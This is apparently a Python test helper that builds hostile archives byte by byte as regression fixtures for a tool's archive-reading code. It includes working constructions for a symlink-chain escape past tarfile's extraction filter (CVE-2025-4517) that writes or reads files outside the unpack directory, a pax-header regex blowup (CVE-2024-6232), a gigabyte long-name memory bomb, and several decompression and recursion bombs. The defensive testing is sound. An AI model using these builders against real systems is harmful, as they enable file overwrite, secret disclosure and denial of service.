"""Archives that once broke `topo show --root FILE` (issue 17), built byte by byte.

`python tests/hostile_archives.py` writes the small ones to tests/fixtures/archives/ (gzip with no
time stamp, so the same bytes every time); the big ones (`long_name_bomb`, `many_members`) are
built by the tests when they run, compressed as they are made, never whole in memory or on disk.
"""

from __future__ import annotations

import gzip
import io
import lzma
import os
import struct
import sys
import tarfile
import zlib
from pathlib import Path

FIXTURES = Path(__file__).parent / "fixtures" / "archives"
BLOCK = 512


def header(name: bytes, kind: bytes = b"0", size: int = 0, link: bytes = b"") -> bytes:
    """One ustar header block with its checksum (the fields topo reads; the rest zero); a name over
    100 bytes is split into ustar's prefix and name at its last slash."""
    block = bytearray(BLOCK)
    if len(name) > 100:
        prefix, _, name = name.rpartition(b"/")
        block[345:345 + len(prefix)] = prefix
    block[0:len(name)] = name
    block[100:108] = b"0000644\0"
    block[124:136] = b"%011o\0" % size
    block[136:148] = b"00000000000\0"
    block[156:157] = kind
    block[157:157 + len(link)] = link
    block[257:265] = b"ustar\x0000"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def data(content: bytes) -> bytes:
    return content + bytes(-len(content) % BLOCK)


def end() -> bytes:
    return bytes(2 * BLOCK)


def gz(raw: bytes) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as f:
        f.write(raw)
    return out.getvalue()


def _tar(members: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    """A tar made by Python's tarfile (PAX format: long names go in pax headers)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, content in members:
            info.mtime = 0
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content) if content else None)
    return out.getvalue()


def info(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


def symlink_chain(last: tarfile.TarInfo, content: bytes = b"", comp_len: int = 247, leaf_len: int = 254) -> bytes:
    """The symlink chain that gets past `extractall(filter="data")` before Python 3.11.13
    (CVE-2025-4517): 16 links to 247-character directories make the path the filter checks longer
    than PATH_MAX, so `os.path.realpath` stops resolving; a link through the chain then climbs
    two levels above the unpack directory, and `last` is written (or read) through it."""
    comp = "d" * comp_len
    steps = "abcdefghijklmnop"
    members, path = [], ""
    for step in steps:
        members.append((info(os.path.join(path, comp), tarfile.DIRTYPE), b""))
        members.append((info(os.path.join(path, step), tarfile.SYMTYPE, comp), b""))
        path = os.path.join(path, comp)
    linkpath = os.path.join(*steps, "l" * leaf_len)
    members.append((info(linkpath, tarfile.SYMTYPE, os.path.join(*[".."] * len(steps))), b""))
    members.append((info("escape", tarfile.SYMTYPE, linkpath + "/../.."), b""))
    members.append((last, content))
    return _tar(members)


def write_outside() -> bytes:
    """Creates `../../outside-written` beside the unpack directory's parent (TMPDIR's parent)."""
    return gz(symlink_chain(info("escape/outside-written"), b"written by an archive\n"))


def read_outside() -> bytes:
    """A capture whose `cpu/online` is a link to `../../secret.txt` beside TMPDIR: discovery would
    quote the start of that file in its parse error."""
    online = info("sys/devices/system/cpu/online", tarfile.SYMTYPE, "../../../../escape/secret.txt")
    return gz(symlink_chain(online))


def pax_number() -> bytes:
    """A pax header of 300,000 digits and no record: Python 3.11.7's tarfile scans it with a
    regex that backtracks quadratically (CVE-2024-6232); 305 bytes of gzip."""
    digits = b"1" * 300_000
    return gz(header(b"././@PaxHeader", b"x", len(digits)) + data(digits) + header(b"f") + end())


def nested_dirs(count: int = 2000) -> bytes:
    """`count` directories, each in the last (tarfile's pax names): a RecursionError at 2,000 and
    a copy left in /tmp at 1,500 before."""
    return gz(_tar([(info("/".join(["d"] * n), tarfile.DIRTYPE), b"") for n in range(1, count + 1)]))


def quadratic_lscpu(root: Path) -> bytes:
    """A capture of `root` (no NUMA directory: lscpu's outputs are read) whose stored `lscpu`
    says `L3 cache: 1` + a million spaces + `x`: a regex took hours on it."""
    members = []
    for path in sorted(root.rglob("*")):
        name = path.relative_to(root).as_posix()
        if path.is_dir():
            members.append((info(name, tarfile.DIRTYPE), b""))
        else:
            members.append((info(name), path.read_bytes()))
    members.append((info("topo-capture/lscpu-parsable.txt"),
                    b"# CPU,Core,Socket,Node,,L1d,L1i,L2,L3\n0,0,0,0,,0,0,0,0\n1,1,0,0,,1,1,1,0\n"))
    members.append((info("topo-capture/lscpu.txt"), b"NUMA node(s): 1\nL3 cache: 1" + b" " * 1_000_000 + b"x\n"))
    return gz(_tar(members))


def long_name_bomb(name_size: int = 1 << 30) -> bytes:
    """A .tar.xz of ~160 KB whose GNU long name (`L`) is `name_size` bytes: tarfile reads the whole
    name into memory (8 GB and 28 s for 1 GiB). Made of concatenated xz streams, one of them
    16 MiB of "a" compressed once and repeated, so building it costs well under a second."""
    piece = 16 << 20
    assert name_size % piece == 0
    compressor = lzma.LZMACompressor(preset=0)
    chunk = b"a" * (1 << 20)
    run = b"".join(compressor.compress(chunk) for _ in range(piece >> 20)) + compressor.flush()
    return (lzma.compress(header(b"././@LongLink", b"L", name_size), preset=0)
            + run * (name_size // piece)
            + lzma.compress(header(b"f") + end(), preset=0))


def many_members(count: int) -> bytes:
    """A legal archive of `count` empty files in 100 directories: slow to unpack, quick to build."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0, compresslevel=1) as f:
        for d in range(100):
            f.write(header(b"sys/d%d" % d, b"5"))
        for n in range(count):
            f.write(header(b"sys/d%d/f%d" % (n % 100, n)))
        f.write(end())
    return out.getvalue()


def long_links(count: int, parts: int = 512, dirs: int = 49) -> bytes:
    """A legal .tar.xz of `dirs` nested directories and `count` links beside them whose targets of
    `parts` parts run through them (`a/a/.../a`, each given in a GNU long link name): every prefix
    of every target was once looked up among all links, 22 s for 49,000 links of 512 parts."""
    target = b"/".join([b"a"] * parts)
    compressor = lzma.LZMACompressor(preset=0)
    out = [compressor.compress(header(b"/".join([b"a"] * dirs), b"5"))]
    for n in range(count):
        out.append(compressor.compress(header(b"././@LongLink", b"K", len(target)) + data(target)
                                       + header(b"l%d" % n, b"2", link=b"x")))
    out.append(compressor.compress(end()))
    return b"".join(out) + compressor.flush()


def repeated_dirs(count: int, dirs: int = 49, files: bool = False, chains: int = 2) -> bytes:
    """A legal archive of `count` members in `chains` chains of `dirs` nested directories, named in
    turn: the deepest directories themselves (a directory may repeat), or files in them. Each once
    cost a descriptor per level, 12 s for 99,000 directories; with a chain per file, each file made
    `dirs` directories that no bound counted."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0, compresslevel=1) as f:
        for n in range(count):
            name = b"/".join([b"%x" % (n % chains)] + [b"a"] * (dirs - 1))
            f.write(header(name + b"/%x" % n, b"0") if files else header(name, b"5"))
        f.write(end())
    return out.getvalue()


def empty_streams(count: int, compress=lambda raw: gzip.compress(raw, mtime=0)) -> bytes:
    """`count` empty compressed streams (gzip members, bzip2 or xz streams; each format allows
    them one after another), then a small archive: 3.3 million empty gzip members, 66 MB, cost
    8.8 s with nothing unpacked."""
    return compress(b"") * count + compress(header(b"f") + end())


def xz_blocks(raw: bytes) -> bytes:
    """`raw` as one xz stream of one block per byte (a stored LZMA2 chunk each, CRC32 checks): the
    most blocks an xz file of a given size holds, each decoded by liblzma, which no bound counts."""
    def crc(data: bytes) -> bytes:
        return struct.pack("<I", zlib.crc32(data))

    flags = b"\x00\x01"  # CRC32 checks
    head = b"\x02\x00\x21\x01\x00\x00\x00\x00"  # a 12-byte header, one filter: LZMA2, dictionary 4 KiB
    blocks = {byte: head + crc(head) + b"\x01\x00\x00%c\x00\x00\x00\x00" % byte + crc(bytes([byte]))
              for byte in set(raw)}
    records, n = b"", len(raw)  # the number of blocks, in 7-bit groups (the low first)
    while n >= 0x80:
        records, n = records + bytes([n & 0x7F | 0x80]), n >> 7
    index = b"\x00" + records + bytes([n]) + b"\x15\x01" * len(raw)  # a block: 21 bytes unpadded, 1 unpacked
    index += bytes(-len(index) % 4)
    index += crc(index)
    footer = struct.pack("<I", len(index) // 4 - 1) + flags
    return (b"\xfd7zXZ\x00" + flags + crc(flags) + b"".join(blocks[byte] for byte in raw) + index
            + crc(footer) + footer + b"YZ")


def _quadratic_lscpu_of_a_small_machine() -> bytes:
    import tempfile

    from sysfs_builder import Machine, build

    with tempfile.TemporaryDirectory() as tmp:
        return quadratic_lscpu(build(Path(tmp), Machine(packages=1, cores=2, numa=False, caches=False)))


STORED = {
    "symlink-chain-write-outside.tar.gz": write_outside,
    "symlink-chain-read-outside.tar.gz": read_outside,
    "pax-number.tar.gz": pax_number,
    "nested-dirs-2000.tar.gz": nested_dirs,
    "lscpu-quadratic.tar.gz": _quadratic_lscpu_of_a_small_machine,
}


def main() -> None:
    FIXTURES.mkdir(parents=True, exist_ok=True)
    for name, make in STORED.items():
        (FIXTURES / name).write_bytes(make())
        print(f"{FIXTURES / name}: {(FIXTURES / name).stat().st_size} bytes", file=sys.stderr)


if __name__ == "__main__":
    main()
